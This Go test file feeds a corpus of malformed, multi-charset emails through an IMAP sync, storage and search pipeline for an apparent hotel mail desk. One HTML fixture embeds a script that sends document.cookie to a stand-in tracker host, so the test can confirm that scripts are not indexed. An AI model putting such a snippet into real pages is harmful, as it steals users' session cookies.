package imap

import (
	"bytes"
	"context"
	"encoding/base64"
	"fmt"
	"math/rand/v2"
	"slices"
	"strings"
	"testing"
	"time"

	"loge/data/desk"
	"loge/data/store"

	"github.com/emersion/go-imap/v2"
	"golang.org/x/text/encoding/japanese"

	"loge/data/mime"
)

// The charset/malformed corpus: mail as it arrives at a hotel desk, broken in every way seen in the
// wild. Each case must survive server → sync → SQLite → search: stored, raw bytes kept byte for
// byte, its readable text searchable, what cannot be read flagged with mime.UndecodableMarker.

// corpusCase is one raw message and what the desk must make of it.
type corpusCase struct {
	name string
	raw  []byte
	// bareLF: the message does not use CRLF; a server may rewrite its line endings.
	bareLF bool
	// headerless: the message has no header block at all.
	headerless bool
	// nul: the message holds NUL bytes.
	nul bool
	// search: words that must find this message, and only this one.
	search []string
	// absent: words that must find no message at all (a <script>'s content…).
	absent []string
	// subject, fromName: the decoded header values expected ("" = not checked).
	subject, fromName string
	// text: substrings the stored body text must contain; notText: substrings it must not.
	text, notText []string
	// marker: 1 the undecodable marker must be in the text, -1 it must not, 0 either.
	marker int
	// attachments: filename → expected decoded size (-1 = any size > 0).
	attachments map[string]int64
	// check: anything else, on the stored message and its attachments.
	check func(t *testing.T, m desk.Message, atts []desk.Attachment)
}

const (
	wantMarker   = 1
	noMarker     = -1
	bigAttachLen = 5 << 20
)

// crlfMail turns a message written with "\n" into CRLF.
func crlfMail(s string) []byte { return []byte(strings.ReplaceAll(s, "\n", "\r\n")) }

// iso2022jp encodes s in ISO-2022-JP, line by line so each line ends back in ASCII.
func iso2022jp(t *testing.T, s string) string {
	t.Helper()
	lines := strings.Split(s, "\n")
	for i, l := range lines {
		enc, err := japanese.ISO2022JP.NewEncoder().String(l)
		if err != nil {
			t.Fatalf("iso-2022-jp %q: %v", l, err)
		}
		lines[i] = enc
	}
	return strings.Join(lines, "\n")
}

// bigPayload is 5 MiB of deterministic noise, base64 in 76-column lines.
func bigPayload() string {
	raw := make([]byte, bigAttachLen)
	r := rand.New(rand.NewPCG(2026, 11))
	for i := 0; i < len(raw); i += 8 {
		v := r.Uint64()
		for j := 0; j < 8 && i+j < len(raw); j++ {
			raw[i+j] = byte(v >> (8 * j))
		}
	}
	enc := base64.StdEncoding.EncodeToString(raw)
	var b strings.Builder
	b.Grow(len(enc) + len(enc)/76 + 1)
	for len(enc) > 76 {
		b.WriteString(enc[:76])
		b.WriteString("\n")
		enc = enc[76:]
	}
	b.WriteString(enc)
	b.WriteString("\n")
	return b.String()
}

// nestedMultipart is depth multipart/mixed levels, each closed, around one text part.
func nestedMultipart(depth int, inner string) string {
	if depth == 0 {
		return "Content-Type: text/plain; charset=utf-8\n\n" + inner + "\n"
	}
	b := fmt.Sprintf("niveau%02d", depth)
	return "Content-Type: multipart/mixed; boundary=\"" + b + "\"\n\n--" + b + "\n" + nestedMultipart(depth-1, inner) + "--" + b + "--\n"
}

func corpus(t *testing.T) []corpusCase {
	t.Helper()
	jpSubject := "ご予約の確認"
	jpBody := "田中様\n\n露天風呂付きの客室をご用意しております。\nご到着をお待ちしております。\n"
	big := bigPayload()
	longRefs := make([]string, 0, 300)
	for i := 0; len(strings.Join(longRefs, " ")) < 10_000; i++ {
		longRefs = append(longRefs, fmt.Sprintf("<fil-%04d.discussion@agence.example>", i))
	}
	longSubject := strings.Repeat("Demande de surclassement pour la suite présidentielle ", 190) + "zanzibar"
	start := time.Now()

	return []corpusCase{{
		name: "iso-8859-1 body, RFC 2047 iso-8859-1 subject",
		raw: crlfMail("From: =?ISO-8859-1?Q?Ren=E9e_Dupr=E9?= <renee@example.fr>\nTo: desk@hotel.example\n" +
			"Subject: =?ISO-8859-1?Q?S=E9jour_=E0_Deauville?=\nDate: Tue, 24 Nov 2026 09:00:00 +0100\n" +
			"Message-ID: <latin1@example.fr>\nMIME-Version: 1.0\nContent-Type: text/plain; charset=ISO-8859-1\n" +
			"Content-Transfer-Encoding: 8bit\n\nMon \xe9pouse et moi arriverons vendredi. Nous aimerions un lit \xe0 baldaquin.\n"),
		search:   []string{"epouse", "séjour", "deauville", "baldaquin"},
		subject:  "Séjour à Deauville",
		fromName: "Renée Dupré",
		text:     []string{"Mon épouse et moi", "lit à baldaquin"},
		marker:   noMarker,
	}, {
		name: "windows-1252 body without a charset label",
		raw: crlfMail("From: Bistrot <bistrot@example.fr>\nTo: desk@hotel.example\nSubject: Menu du soir\n" +
			"Date: Tue, 24 Nov 2026 09:01:00 +0100\nMessage-ID: <cp1252@example.fr>\nMIME-Version: 1.0\n" +
			"Content-Type: text/plain\nContent-Transfer-Encoding: 8bit\n\n" +
			"Le chef propose son \x93b\x9cuf bourguignon\x94 \x96 29 \x80, et l\x92\x9cuvre du p\xe2tissier.\n"),
		search: []string{"bœuf", "bourguignon", "patissier"},
		text:   []string{"“bœuf bourguignon” – 29 €", "l’œuvre du pâtissier"},
		marker: noMarker,
	}, {
		name: "iso-2022-jp subject and body",
		raw: []byte(strings.ReplaceAll("From: =?ISO-2022-JP?B?"+base64.StdEncoding.EncodeToString([]byte(iso2022jp(t, "山田旅館")))+"?= <yoyaku@ryokan.example.jp>\n"+
			"To: desk@hotel.example\nSubject: =?ISO-2022-JP?B?"+base64.StdEncoding.EncodeToString([]byte(iso2022jp(t, jpSubject)))+"?=\n"+
			"Date: Tue, 24 Nov 2026 17:02:00 +0900\nMessage-ID: <jp@ryokan.example.jp>\nMIME-Version: 1.0\n"+
			"Content-Type: text/plain; charset=ISO-2022-JP\nContent-Transfer-Encoding: 7bit\n\n"+iso2022jp(t, jpBody), "\n", "\r\n")),
		search:   []string{"露天風呂", "ご予約", "山田旅館"},
		subject:  jpSubject,
		fromName: "山田旅館",
		text:     []string{"露天風呂付きの客室をご用意しております。"},
		marker:   noMarker,
	}, {
		name: "unknown charset x-klingon",
		raw: crlfMail("From: Worf <worf@example.org>\nTo: desk@hotel.example\nSubject: Qapla'\n" +
			"Date: Tue, 24 Nov 2026 09:03:00 +0100\nMessage-ID: <klingon@example.org>\nMIME-Version: 1.0\n" +
			"Content-Type: text/plain; charset=x-klingon\n\nHeghlu'meH QaQ jajvam. bortaS nIv\n"),
		// The bytes stay readable (a best guess), with the marker saying the guess may be wrong.
		search: []string{"bortas", "qapla"},
		text:   []string{"Heghlu'meH QaQ jajvam"},
		marker: wantMarker,
	}, {
		name: "multipart with an unclosed boundary",
		raw: crlfMail("From: Agence <agence@example.com>\nTo: desk@hotel.example\nSubject: Transfert incomplet\n" +
			"Date: Tue, 24 Nov 2026 09:04:00 +0100\nMessage-ID: <unclosed@example.com>\nMIME-Version: 1.0\n" +
			"Content-Type: multipart/mixed; boundary=\"frontiere\"\n\n--frontiere\nContent-Type: text/plain; charset=utf-8\n\n" +
			"Le transfert vers l'aéroport est confirmé en limousine.\n--frontiere\nContent-Type: text/plain; charset=utf-8\n\n" +
			"Deuxième partie jamais fermée : le chauffeur s'appelle Anatole.\n"),
		// Both parts are read; whether the missing end is flagged is left open (the last part could
		// as well be truncated).
		search: []string{"limousine", "anatole"},
		text:   []string{"confirmé en limousine", "chauffeur s'appelle Anatole"},
	}, {
		name: "multipart whose closing boundary does not match",
		raw: crlfMail("From: Room service <rs@example.com>\nTo: desk@hotel.example\nSubject: Réveil\n" +
			"Date: Tue, 24 Nov 2026 09:05:00 +0100\nMessage-ID: <mismatch@example.com>\nMIME-Version: 1.0\n" +
			"Content-Type: multipart/alternative; boundary=\"AAA\"\n\n--AAA\nContent-Type: text/plain; charset=utf-8\n\n" +
			"Réveil demandé à 6 h, petit déjeuner en chambre avec croissants.\n--AAB--\n"),
		search: []string{"croissants"},
		text:   []string{"petit déjeuner en chambre avec croissants"},
	}, {
		name: "invalid base64 in a text part",
		raw: crlfMail("From: Minibar <minibar@example.com>\nTo: desk@hotel.example\nSubject: Facture\n" +
			"Date: Tue, 24 Nov 2026 09:06:00 +0100\nMessage-ID: <badb64@example.com>\nMIME-Version: 1.0\n" +
			"Content-Type: multipart/mixed; boundary=\"XB\"\n\n--XB\nContent-Type: text/plain; charset=utf-8\n\n" +
			"Voir le relevé du minibar ci-dessous.\n--XB\nContent-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: base64\n\n" +
			"!!!* ceci n'est pas du base64 *!!! ~~~ \x01\x02 ===\n--XB--\n"),
		search: []string{"minibar"},
		text:   []string{"relevé du minibar"},
		marker: wantMarker,
	}, {
		name: "10,000-character References line",
		raw: crlfMail("From: Agence <agence@example.com>\nTo: desk@hotel.example\nSubject: Suite du fil\n" +
			"Date: Tue, 24 Nov 2026 09:07:00 +0100\nMessage-ID: <longrefs@example.com>\nIn-Reply-To: " + longRefs[len(longRefs)-1] + "\n" +
			"References: " + strings.Join(longRefs, " ") + "\nMIME-Version: 1.0\nContent-Type: text/plain; charset=utf-8\n\n" +
			"Le fil est long comme un ornithorynque.\n"),
		search: []string{"ornithorynque"},
		marker: noMarker,
		check: func(t *testing.T, m desk.Message, _ []desk.Attachment) {
			if n := len(strings.Fields(m.References)); n != len(longRefs) {
				t.Errorf("References: %d ids kept of %d", n, len(longRefs))
			}
			if m.ThreadID != strings.Trim(longRefs[0], "<>") || m.InReplyTo != strings.Trim(longRefs[len(longRefs)-1], "<>") {
				t.Errorf("threading: thread %q, in-reply-to %q", m.ThreadID, m.InReplyTo)
			}
		},
	}, {
		name: "10,000-character Subject line",
		raw: crlfMail("From: Agence <agence@example.com>\nTo: desk@hotel.example\nSubject: " + longSubject + "\n" +
			"Date: Tue, 24 Nov 2026 09:08:00 +0100\nMessage-ID: <longsubject@example.com>\nMIME-Version: 1.0\n" +
			"Content-Type: text/plain; charset=utf-8\n\nVoir l'objet.\n"),
		search:  []string{"zanzibar", "surclassement"},
		subject: longSubject,
		marker:  noMarker,
	}, {
		name: "NUL bytes in headers and body",
		nul:  true,
		raw: crlfMail("From: Nul\x00 Octet <nul@example.com>\nTo: desk@hotel.example\nSubject: Clef\x00 perdue chambre 12\n" +
			"Date: Tue, 24 Nov 2026 09:09:00 +0100\nMessage-ID: <nul@example.com>\nMIME-Version: 1.0\n" +
			"Content-Type: text/plain; charset=utf-8\n\nLe client a perdu sa clef\x00 magnétique près de la piscine.\n"),
		search:  []string{"piscine", "perdue"},
		subject: "Clef perdue chambre 12",
		text:    []string{"perdu sa clef magnétique près de la piscine"},
		notText: []string{"\x00"},
		marker:  noMarker,
		check: func(t *testing.T, m desk.Message, _ []desk.Attachment) {
			if strings.ContainsRune(m.Subject+m.FromName+m.Snippet+m.BodyText, 0) {
				t.Errorf("NUL kept: %q / %q / %q", m.Subject, m.FromName, m.Snippet)
			}
		},
	}, {
		name:   "bare LF line endings throughout",
		bareLF: true,
		raw: []byte("From: Accueil <accueil@example.com>\nTo: desk@hotel.example\nSubject: Code du wifi\n" +
			"Date: Tue, 24 Nov 2026 09:10:00 +0100\nMessage-ID: <barelf@example.com>\nMIME-Version: 1.0\n" +
			"Content-Type: multipart/alternative; boundary=\"LF\"\n\n--LF\nContent-Type: text/plain; charset=utf-8\n\n" +
			"Le mot de passe du wifi est toucan.\n--LF\nContent-Type: text/html; charset=utf-8\n\n" +
			"<p>Le mot de passe du wifi est <b>toucan</b>.</p>\n--LF--\n"),
		search:  []string{"toucan"},
		subject: "Code du wifi",
		text:    []string{"Le mot de passe du wifi est toucan."},
		notText: []string{"\r"},
		marker:  noMarker,
	}, {
		name: "forwarded mail: nested message/rfc822 with its own French subject",
		raw: crlfMail("From: Concierge <concierge@hotel.example>\nTo: desk@hotel.example\nSubject: Tr: à traiter\n" +
			"Date: Tue, 24 Nov 2026 09:11:00 +0100\nMessage-ID: <fwd@hotel.example>\nMIME-Version: 1.0\n" +
			"Content-Type: multipart/mixed; boundary=\"FWD\"\n\n--FWD\nContent-Type: text/plain; charset=utf-8\n\n" +
			"Merci de traiter la demande ci-dessous.\n--FWD\nContent-Type: message/rfc822\nContent-Disposition: inline\n\n" +
			"From: =?utf-8?q?Ch=C3=A2teau_Margaux?= <contact@margaux.example>\nTo: concierge@hotel.example\n" +
			"Subject: =?utf-8?q?D=C3=A9gustation_au_ch=C3=A2teau_Margaux?=\nDate: Mon, 23 Nov 2026 18:00:00 +0100\n" +
			"Message-ID: <inner@margaux.example>\nMIME-Version: 1.0\nContent-Type: text/plain; charset=iso-8859-1\n" +
			"Content-Transfer-Encoding: quoted-printable\n\nNous vous attendons pour la d=E9gustation des mill=E9simes.\n--FWD--\n"),
		search:  []string{"margaux", "millesimes"},
		subject: "Tr: à traiter",
		text:    []string{"Merci de traiter", "Dégustation au château Margaux", "dégustation des millésimes"},
		marker:  noMarker,
		check: func(t *testing.T, m desk.Message, atts []desk.Attachment) {
			if !slices.ContainsFunc(atts, func(a desk.Attachment) bool { return a.ContentType == "message/rfc822" }) {
				t.Errorf("forwarded mail not listed as message/rfc822: %+v", atts)
			}
		},
		attachments: map[string]int64{"Dégustation au château Margaux.eml": -1},
	}, {
		name: "5 MB base64 attachment",
		raw: crlfMail("From: Banquets <banquets@example.com>\nTo: desk@hotel.example\nSubject: Plan de salle\n" +
			"Date: Tue, 24 Nov 2026 09:12:00 +0100\nMessage-ID: <big@example.com>\nMIME-Version: 1.0\n" +
			"Content-Type: multipart/mixed; boundary=\"BIG\"\n\n--BIG\nContent-Type: text/plain; charset=utf-8\n\n" +
			"Ci-joint le plan de la salle avec les chandeliers.\n--BIG\n" +
			"Content-Type: application/octet-stream; name=\"plan-salle.bin\"\nContent-Disposition: attachment; filename=\"plan-salle.bin\"\n" +
			"Content-Transfer-Encoding: base64\n\n" + big + "--BIG--\n"),
		search:      []string{"chandeliers"},
		text:        []string{"plan de la salle avec les chandeliers"},
		marker:      noMarker,
		attachments: map[string]int64{"plan-salle.bin": bigAttachLen},
		check: func(t *testing.T, m desk.Message, _ []desk.Attachment) {
			if !m.HasAttachments || m.Size < bigAttachLen {
				t.Errorf("big mail: has attachments %v, size %d", m.HasAttachments, m.Size)
			}
		},
	}, {
		name: "multiparts nested 40 deep",
		raw: crlfMail("From: Robot <robot@example.com>\nTo: desk@hotel.example\nSubject: Poupées russes\n" +
			"Date: Tue, 24 Nov 2026 09:13:00 +0100\nMessage-ID: <deep@example.com>\nMIME-Version: 1.0\n" +
			"Content-Type: multipart/mixed; boundary=\"haut\"\n\n--haut\nContent-Type: text/plain; charset=utf-8\n\n" +
			"Premier niveau : le sommelier vous attend.\n--haut\n" + nestedMultipart(39, "Tout au fond : scaphandre.") + "--haut--\n"),
		// Loge stops walking past 32 levels: what lies deeper stays in the raw, the marker says so.
		search: []string{"sommelier"},
		text:   []string{"le sommelier vous attend"},
		marker: wantMarker,
	}, {
		name: "HTML-only mail with entities and a script",
		raw: crlfMail("From: Spa <spa@example.com>\nTo: desk@hotel.example\nSubject: Votre soin\n" +
			"Date: Tue, 24 Nov 2026 09:14:00 +0100\nMessage-ID: <html@example.com>\nMIME-Version: 1.0\n" +
			"Content-Type: text/html; charset=utf-8\n\n<!DOCTYPE html><html><head><title>Lettre</title>" +
			"<style>p { color: red }</style><script type=\"text/javascript\">var espionnage = document.cookie; " +
			"new Image().src = 'http://tracker.example/?c=' + espionnage;</script></head>\n<body><p>Cher client, votre soin " +
			"&laquo;&nbsp;Aromath&eacute;rapie&nbsp;&raquo; est confirm&eacute; &agrave; 15&nbsp;h &amp; le th&eacute; est offert.</p>" +
			"<p>Tarif&nbsp;: 80&nbsp;&euro; &#8212; &#x263A; &lt;merci&gt;</p></body></html>\n"),
		search:  []string{"aromatherapie", "offert"},
		absent:  []string{"espionnage", "cookie", "tracker", "lettre"},
		text:    []string{"Aromathérapie", "confirmé à 15", "& le thé est offert", "80 € — ☺ <merci>"},
		notText: []string{"<script", "<p>", "&eacute;", "color: red"},
		marker:  noMarker,
	}, {
		name:       "no headers at all",
		headerless: true,
		raw:        crlfMail("Aucun en-tête ici, seulement un hippopotame dans le hall.\nDeuxième ligne.\n"),
		// The whole mail reads as text: nothing is left undecoded.
		search: []string{"hippopotame"},
		text:   []string{"seulement un hippopotame dans le hall"},
		marker: noMarker,
		check: func(t *testing.T, m desk.Message, _ []desk.Attachment) {
			if !strings.HasPrefix(m.MessageID, "local-") {
				t.Errorf("message without headers got Message-ID %q", m.MessageID)
			}
		},
	}, {
		name: "no Message-ID and no Date",
		raw: crlfMail("From: Portier <portier@example.com>\nTo: desk@hotel.example\nSubject: Objet trouvé\nMIME-Version: 1.0\n" +
			"Content-Type: text/plain; charset=utf-8\n\nUn parapluie oublié au vestiaire.\n"),
		search:  []string{"parapluie"},
		subject: "Objet trouvé",
		marker:  noMarker,
		check: func(t *testing.T, m desk.Message, _ []desk.Attachment) {
			if !strings.HasPrefix(m.MessageID, "local-") || !strings.HasSuffix(m.MessageID, "@loge.invalid") || m.ThreadID != m.MessageID {
				t.Errorf("no Message-ID: got id %q, thread %q", m.MessageID, m.ThreadID)
			}
			if m.Date.Before(start.Add(-time.Minute)) || m.Date.After(time.Now().Add(time.Minute)) {
				t.Errorf("no Date: stored %v, want the time it arrived", m.Date)
			}
		},
	}, {
		name: "RFC 2231 encoded attachment filenames",
		raw: crlfMail("From: Navette <navette@example.com>\nTo: desk@hotel.example\nSubject: Documents\n" +
			"Date: Tue, 24 Nov 2026 09:16:00 +0100\nMessage-ID: <rfc2231@example.com>\nMIME-Version: 1.0\n" +
			"Content-Type: multipart/mixed; boundary=\"R2231\"\n\n--R2231\nContent-Type: text/plain; charset=utf-8\n\n" +
			"Ci-joint le bon pour la navette.\n--R2231\nContent-Type: application/pdf\n" +
			"Content-Disposition: attachment; filename*=UTF-8''r%C3%A9servation.pdf\nContent-Transfer-Encoding: base64\n\n" +
			"JVBERi0xLjQKJcOkw7zDtsOfCg==\n--R2231\nContent-Type: application/pdf\n" +
			"Content-Disposition: attachment;\n filename*0*=UTF-8''factu;\n filename*1*=re%20d%C3%A9taill%C3%A9e;\n filename*2=.pdf\n" +
			"Content-Transfer-Encoding: base64\n\nJVBERi0xLjQK\n--R2231--\n"),
		search:      []string{"navette"},
		marker:      noMarker,
		attachments: map[string]int64{"réservation.pdf": 19, "facture détaillée.pdf": 9},
	}, {
		name: "raw 8-bit UTF-8 in Subject and From display name",
		raw: crlfMail("From: Zoé Château-Lévêque <zoe@example.fr>\nTo: desk@hotel.example\n" +
			"Subject: Réservation spéciale — anniversaire surprise 🎂\nDate: Tue, 24 Nov 2026 09:17:00 +0100\n" +
			"Message-ID: <utf8raw@example.fr>\nMIME-Version: 1.0\nContent-Type: text/plain; charset=utf-8\n" +
			"Content-Transfer-Encoding: 8bit\n\nUn gâteau au dessert, s'il vous plaît.\n"),
		search:   []string{"anniversaire", "leveque", "gateau"},
		subject:  "Réservation spéciale — anniversaire surprise 🎂",
		fromName: "Zoé Château-Lévêque",
		marker:   noMarker,
		check: func(t *testing.T, m desk.Message, _ []desk.Attachment) {
			if m.FromAddr != "zoe@example.fr" {
				t.Errorf("from address %q", m.FromAddr)
			}
		},
	}}
}

// fetchAll reads every message of box as the server serves it (UID FETCH 1:* BODY.PEEK[]), over
// its own connection: the reference for what Loge was given.
func fetchAll(t *testing.T, cfg Config, box string) map[uint32][]byte {
	t.Helper()
	c := client(t, cfg)
	if _, err := c.Select(box, &imap.SelectOptions{ReadOnly: true}).Wait(); err != nil {
		t.Fatal(err)
	}
	var all imap.UIDSet
	all.AddRange(1, 0)
	section := &imap.FetchItemBodySection{Peek: true}
	msgs, err := c.Fetch(all, &imap.FetchOptions{UID: true, BodySection: []*imap.FetchItemBodySection{section}}).Collect()
	if err != nil {
		t.Fatal(err)
	}
	out := make(map[uint32][]byte, len(msgs))
	for _, m := range msgs {
		out[uint32(m.UID)] = m.FindBodySection(section)
	}
	return out
}

// storedByUID finds the stored messages of a mailbox by UID through the store's own API: every
// thread of the mailbox, every message of each thread.
func storedByUID(t *testing.T, st *store.Store, mb desk.Mailbox) map[uint32]desk.Message {
	t.Helper()
	ctx := context.Background()
	ths, err := st.Threads(ctx, mb.ID, 0)
	if err != nil {
		t.Fatal(err)
	}
	out := map[uint32]desk.Message{}
	for _, th := range ths {
		msgs, err := st.ThreadMessages(ctx, th.ThreadID)
		if err != nil {
			t.Fatal(err)
		}
		for _, m := range msgs {
			if m.MailboxID == mb.ID && !m.Vanished {
				if prev, dup := out[m.UID]; dup && prev.ID != m.ID {
					t.Errorf("UID %d stored twice: ids %d and %d", m.UID, prev.ID, m.ID)
				}
				out[m.UID] = m
			}
		}
	}
	return out
}

func lfOnly(b []byte) []byte { return bytes.ReplaceAll(b, []byte("\r\n"), []byte("\n")) }

func short(s string) string {
	if len(s) > 200 {
		return fmt.Sprintf("%q… (%d bytes)", s[:200], len(s))
	}
	return fmt.Sprintf("%q", s)
}

// runCorpus appends the corpus to box (empty, so UIDs run 1..n in corpus order), syncs it once into a
// fresh desk and checks every case. serverMayRewrite names the cases this server is known to serve
// differently from what was appended: for those Loge is held to what the server served; for all
// others to the very bytes appended.
func runCorpus(t *testing.T, cfg Config, box string, serverMayRewrite func(corpusCase) bool) {
	ctx := context.Background()
	cases := corpus(t)
	c := client(t, cfg)
	for _, cc := range cases {
		appendMail(t, c, box, cc.raw)
	}
	st, acct := newStore(t)
	rs := syncOnce(t, st, acct, cfg, box)
	if len(rs) != 1 || rs[0].Added != len(cases) {
		t.Fatalf("sync: %+v, want %d added", rs, len(cases))
	}
	if n := stats(t, st).Messages; n != len(cases) {
		t.Fatalf("%d messages stored, want %d", n, len(cases))
	}
	mb := mailboxNamed(t, st, acct, box)
	live, err := st.LiveUIDs(ctx, mb.ID)
	if err != nil {
		t.Fatal(err)
	}
	if len(live) != len(cases) || live[0] != 1 || live[len(live)-1] != uint32(len(cases)) {
		t.Fatalf("live UIDs %v, want 1..%d", live, len(cases))
	}
	// Mail first: the sync leaves decoding and search to the indexer. What the Inbox reads before
	// it ran (decoded on demand from the raw bytes) must be what it reads after.
	browsable := storedByUID(t, st, mb)
	indexAll(t, st)
	stored := storedByUID(t, st, mb)
	served := fetchAll(t, cfg, box)

	for i, cc := range cases {
		t.Run(cc.name, func(t *testing.T) {
			uid := uint32(i + 1)
			m, ok := stored[uid]
			if !ok {
				t.Fatalf("UID %d not found among the mailbox's threads", uid)
			}
			if b := browsable[uid]; !b.Unindexed || m.Unindexed || b.BodyText != m.BodyText || b.Snippet != m.Snippet ||
				b.HasAttachments != m.HasAttachments || b.Subject != m.Subject || b.ThreadID != m.ThreadID {
				t.Errorf("read before indexing (unindexed %v) differs from after (unindexed %v): %q / %q", b.Unindexed, m.Unindexed,
					short(b.BodyText), short(m.BodyText))
			}
			// 1. Raw bytes. Loge keeps exactly what the server served…
			raw, err := st.RawMessage(ctx, m.ID)
			if err != nil {
				t.Fatal(err)
			}
			srv, ok := served[uid]
			if !ok {
				t.Fatalf("server has no UID %d", uid)
			}
			if !bytes.Equal(raw, srv) {
				t.Errorf("stored raw (%d bytes) differs from the server's FETCH (%d bytes): Loge changed the message", len(raw), len(srv))
			}
			if m.Size != int64(len(srv)) {
				t.Errorf("size %d, server served %d bytes", m.Size, len(srv))
			}
			// …which is what was appended, unless this server is known to rewrite such a message.
			exact := true // the decoded values can be held to the case's expectations
			if !bytes.Equal(srv, cc.raw) {
				if !serverMayRewrite(cc) {
					t.Errorf("server served %d bytes for the %d appended", len(srv), len(cc.raw))
				}
				switch {
				case bytes.Equal(lfOnly(srv), lfOnly(cc.raw)):
					t.Logf("server gave the message CRLF line endings (%d → %d bytes)", len(cc.raw), len(srv))
				case bytes.Equal(srv, bytes.ReplaceAll(cc.raw, []byte{0}, []byte{0x80})):
					// Dovecot serves NULs as 0x80 outside BINARY: still searchable, still no NUL,
					// but the text holds what Loge makes of 0x80 (Windows-1252 "€").
					exact = false
					t.Logf("server served NULs as 0x80: subject %q, from %q <%s>", m.Subject, m.FromName, m.FromAddr)
				default:
					t.Skipf("server served other content (%d → %d bytes): nothing more to hold Loge to", len(cc.raw), len(srv))
				}
			}
			// 2. Decoded headers and text.
			if exact && cc.subject != "" && m.Subject != cc.subject {
				t.Errorf("subject %s, want %s", short(m.Subject), short(cc.subject))
			}
			if exact && cc.fromName != "" && m.FromName != cc.fromName {
				t.Errorf("from name %q, want %q", m.FromName, cc.fromName)
			}
			for _, s := range cc.text {
				if exact && !strings.Contains(m.BodyText, s) {
					t.Errorf("text lacks %q: %s", s, short(m.BodyText))
				}
			}
			for _, s := range cc.notText {
				if strings.Contains(m.BodyText, s) {
					t.Errorf("text holds %q: %s", s, short(m.BodyText))
				}
			}
			switch has := strings.Contains(m.BodyText, mime.UndecodableMarker); {
			case cc.marker == wantMarker && !has:
				t.Errorf("undecodable marker missing: %s", short(m.BodyText))
			case cc.marker == noMarker && has:
				t.Errorf("undecodable marker on a readable mail: %s", short(m.BodyText))
			}
			// 3. Search finds it, and only it, by each distinctive word.
			for _, w := range cc.search {
				ids := messageHits(t, st, w)
				if len(ids) != 1 || ids[0] != m.ID {
					t.Errorf("search %q: message hits %v, want [%d]", w, ids, m.ID)
				}
			}
			for _, w := range cc.absent {
				if ids := messageHits(t, st, w); len(ids) != 0 {
					t.Errorf("search %q found %v: hidden text indexed", w, ids)
				}
			}
			// 4. Attachments.
			atts, err := st.Attachments(ctx, m.ID)
			if err != nil {
				t.Fatal(err)
			}
			if m.HasAttachments != (len(atts) > 0) {
				t.Errorf("has_attachments %v with %d attachments", m.HasAttachments, len(atts))
			}
			for name, size := range cc.attachments {
				i := slices.IndexFunc(atts, func(a desk.Attachment) bool { return a.Filename == name })
				switch {
				case i < 0:
					t.Errorf("attachment %q not listed: %+v", name, atts)
				case size < 0 && atts[i].Size <= 0, size >= 0 && atts[i].Size != size:
					t.Errorf("attachment %q size %d, want %d", name, atts[i].Size, size)
				}
			}
			if cc.attachments == nil && len(atts) > 0 {
				t.Errorf("unexpected attachments %+v", atts)
			}
			if cc.check != nil {
				cc.check(t, m, atts)
			}
		})
	}
}

// messageHits returns the ids of the messages a search finds.
func messageHits(t *testing.T, st *store.Store, q string) []int64 {
	t.Helper()
	hits, err := st.Search(context.Background(), q, 50)
	if err != nil {
		t.Fatalf("search %q: %v", q, err)
	}
	var ids []int64
	for _, h := range hits {
		if h.Kind == "message" {
			id, err := desk.MessageIDFromHit(h)
			if err != nil {
				t.Fatal(err)
			}
			ids = append(ids, id)
		}
	}
	return ids
}

// TestCorpusSurvivesSync runs the corpus through go-imap's in-memory server. That server re-writes a
// message's header block on FETCH (go-message's textproto, CRLF after every field), so a bare-LF
// mail comes back with a CRLF header, and a mail without any header is served empty.
func TestCorpusSurvivesSync(t *testing.T) {
	cfg, _ := memServer(t)
	runCorpus(t, cfg, "INBOX", func(c corpusCase) bool { return c.bareLF || c.headerless })
}

// TestCorpusOnDovecot runs the corpus through the real Dovecot, which may give a bare-LF mail CRLF
// line endings: raw bytes are held to what was appended only for the mail that was CRLF already.
func TestCorpusOnDovecot(t *testing.T) {
	d := realDovecot(t)
	cfg := d.cfg(false)
	box := fmt.Sprintf("C%d", time.Now().UnixNano())
	if err := client(t, cfg).Create(box, nil).Wait(); err != nil {
		t.Fatal(err)
	}
	runCorpus(t, cfg, box, func(c corpusCase) bool { return c.bareLF || c.nul })
}
